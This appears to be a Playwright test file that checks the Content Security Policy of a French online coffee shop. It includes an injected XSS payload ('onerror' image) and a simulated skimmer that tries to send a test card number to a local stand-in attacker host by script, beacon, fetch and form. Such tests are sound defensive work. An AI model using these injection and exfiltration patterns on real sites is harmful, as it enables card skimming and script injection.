import type { Page } from "playwright/test"
import { createServer } from "node:http"
import { addToCart, answerProvider, choose, fillContact, goOn, orderByPaysafecard, browseToCoffee, pickMethod } from "./steps.ts"
import { expect, test } from "./shop-test.ts"
import { type Stack, startStack } from "../setup/stack.ts"
import { seededTest } from "./wallet-steps.ts"

/** What the browser says about broken policies, on every page of this tab. */
function watchViolations(page: Page): string[] {
  const found: string[] = []
  page.on("console", (message) => {
    if (/Content Security Policy|Permissions policy violation|Refused to/i.test(message.text())) found.push(message.text())
  })
  return found
}

seededTest("@script S18 a whole purchase breaks no policy", async ({ page }) => {
  const violations = watchViolations(page)
  await browseToCoffee(page, "Canut")
  await choose(page, "500 g")
  await addToCart(page)
  await page.getByRole("link", { name: "Passer commande" }).first().click()
  await fillContact(page)
  await goOn(page)
  await page.getByLabel(/Colissimo/).check()
  await goOn(page)
  await pickMethod(page, /paysafecard/)
  await goOn(page)
  await orderByPaysafecard(page)
  await answerProvider(page, "Accepter le paiement")
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Merci, votre commande est confirmée")
  for (const path of ["/", "/recherche?q=canut", "/connexion", "/devis", "/pages/cgv", "/nulle-part"]) await page.goto(path)
  expect(violations).toEqual([])
})

/** A shop of their own: what is reported here stands in no other test's log. */
test.describe("what is injected", () => {
  test.describe.configure({ mode: "default" })
  let stack: Stack
  test.beforeAll(async () => {
    stack = await startStack()
  })
  test.afterAll(() => stack.stop())

  test("@script S18 an injected inline script does not run, and is reported", async ({ page }) => {
    const violations = watchViolations(page)
    await page.route("**/pages/cgv", async (route) => {
      const answer = await route.fetch()
      const html = (await answer.text()).replace(
        "</main>",
        "<script>document.title = 'volé'</script><img src=x onerror=\"document.title='volé'\"></main>",
      )
      await route.fulfill({ response: answer, body: html })
    })
    await page.goto(`${stack.shop}/pages/cgv`)
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
    await expect.poll(() => violations.length).toBeGreaterThan(1)
    expect(await page.title()).not.toContain("volé")
    await expect.poll(() => stack.shopLog()).toContain("policy-violation")
  })

  test("@script S18 a foreign script, frame, form and call are refused", async ({ page }) => {
    const { shop } = stack
    const heard: string[] = []
    const skimmer = createServer((request, response) => {
      heard.push(request.url ?? "")
      response.end("document.title = 'volé'")
    })
    await new Promise<void>((resolve) => skimmer.listen(0, "127.0.0.1", resolve))
    const address = skimmer.address()
    const evil = `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`
    const violations = watchViolations(page)
    await page.goto(`${shop}/connexion`)
    await page.evaluate(async (origin) => {
      const add = (tag: string, changes: object) => document.body.append(Object.assign(document.createElement(tag), changes))
      add("script", { src: `${origin}/script.js` })
      add("iframe", { src: `${origin}/frame` })
      add("img", { src: `${origin}/pixel.png` })
      add("link", { rel: "stylesheet", href: `${origin}/style.css` })
      await fetch(`${origin}/fetch`, { mode: "no-cors" }).catch(() => undefined)
      navigator.sendBeacon(`${origin}/beacon`, "4242424242424242")
      const form = Object.assign(document.createElement("form"), { action: `${origin}/form`, method: "post" })
      document.body.append(form)
      setTimeout(() => form.submit(), 0)
    }, evil)
    await expect.poll(() => violations.length).toBeGreaterThanOrEqual(6)
    expect(heard).toEqual([])
    expect(await page.title()).not.toContain("volé")
    skimmer.closeAllConnections()
    skimmer.close()
  })
})

test("structured data breaks no content security policy @full", async ({ page }) => {
  const messages: string[] = []
  page.on("console", (message) => messages.push(message.text()))
  for (const path of ["/", "/produits/melange-canut", "/boutique/cafes"]) await page.goto(path)
  expect(messages.filter((text) => /content security policy/i.test(text))).toEqual([])
})
